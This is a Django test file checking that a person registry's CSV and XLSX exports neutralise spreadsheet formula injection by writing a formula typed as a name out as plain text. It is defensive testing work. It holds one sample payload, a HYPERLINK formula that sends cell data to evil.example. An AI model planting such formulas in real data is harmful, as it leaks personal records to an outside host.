"""A name typed as a spreadsheet formula in the person form comes back from the person list's
exports as the text that was typed, never as a formula a spreadsheet would run."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from tests.conftest import WATES
from tests.factories import PersonFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'


def test_a_formula_typed_as_a_name_is_exported_as_text(users, client_for):
    person = PersonFactory(full_name="Sutrisno", region_id=WATES)
    client = client_for(users["kel.wates"])
    edited = client.post(
        reverse("registry:person-edit", args=[person.pk]),
        {
            "nik": person.nik,
            "full_name": FORMULA,
            "sex": person.sex,
            "birth_place": "Mojokerto",
            "birth_date": person.birth_date.strftime("%d/%m/%Y"),
            "life_status": "hidup",
            "version": person.version,
        },
    )
    assert edited.status_code == 302

    exported = client.get(reverse("registry:person-export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(b"".join(exported.streaming_content).decode("utf-8-sig"))))
    name = rows[0].index("nama")
    assert rows[1][name] == "'" + FORMULA  # the apostrophe: spreadsheets show the rest as typed

    exported = client.get(reverse("registry:person-export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(exported.content)).active
    cell = sheet.cell(row=2, column=name + 1)
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix
